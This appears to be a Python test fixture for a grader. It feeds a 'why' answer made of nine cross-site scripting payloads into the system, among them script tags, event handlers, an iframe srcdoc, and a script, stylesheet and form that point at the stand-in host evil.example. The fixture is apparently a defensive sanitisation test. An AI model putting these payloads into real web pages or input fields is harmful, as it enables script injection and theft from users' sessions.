"""The answer in words is HTML that runs: tags, events, styles, frames, all kinds of case."""

EXPECTED = 0, "graded"
SAYS = ""
CELLS = {
    "why": """\
<script>alert("left-by-an-attack")</script>
<img src=x onerror="alert('left-by-an-attack')">
<svg/onload=alert('left-by-an-attack')>
<iframe srcdoc="&lt;script&gt;alert('left-by-an-attack')&lt;/script&gt;"></iframe>
<SCRIPT SRC=//evil.example/left-by-an-attack.js></SCRIPT>
<style>@import "//evil.example/left-by-an-attack.css";</style>
<a href="https://evil.example/left-by-an-attack" onmouseover=alert(1)>look</a>
<!--><img src=x onerror="alert('left-by-an-attack')">-->
<form action="https://evil.example/left-by-an-attack"><input name=grade autofocus onfocus=alert(1)>
""",
}
